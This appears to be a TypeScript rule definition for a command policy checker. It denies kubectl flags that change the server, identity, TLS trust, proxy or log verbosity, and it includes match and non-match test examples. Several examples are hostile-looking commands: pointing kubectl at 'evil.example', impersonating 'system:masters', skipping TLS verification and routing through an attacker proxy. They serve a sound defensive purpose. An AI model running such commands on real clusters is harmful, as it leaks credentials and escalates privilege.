import { flagName } from "../../language/quote.ts";
import { defineRule } from "../rule.ts";

export const connectionFlag = defineRule({
  id: "K8S101",
  slug: "connection-flag",
  severity: "critical",
  decision: "deny",
  summary:
    "A flag chooses another server, identity, trust or client configuration, or makes the client log what it sends.",
  instead: "Leave the flag out: the server's own configuration decides who and where the client is.",
  overridable: false,
  onlyWith: "connection",
  *check(stage) {
    for (const { flag, span } of stage.connection) {
      yield {
        span,
        message: `${flagName(flag)} chooses endpoint, identity, trust or client diagnostics, which is not the command's to say.`,
        covers: ["identity"],
      };
    }
  },
  match: [
    "kubectl get pods --server=https://evil.example",
    "kubectl get pods -Ashttps://evil.example",
    "kubectl get pods --token=x",
    "kubectl get pods --as=root --as-group=system:masters",
    "kubectl get pods --insecure_skip_tls_verify",
    "kubectl get pods -v=9",
    "kubectl logs web --insecure-skip-tls-verify-backend",
    "kubectl get pods --kubeconfig=x --help",
    "kubectl get pods --proxy-url=http://evil.example:8080",
  ],
  notMatch: [
    "kubectl get pods -v=2",
    "kubectl get pods --insecure-skip-tls-verify=false",
    "kubectl get pods --request-timeout=5s",
    "kubectl get pods -l 'token=x,user=y'",
  ],
});
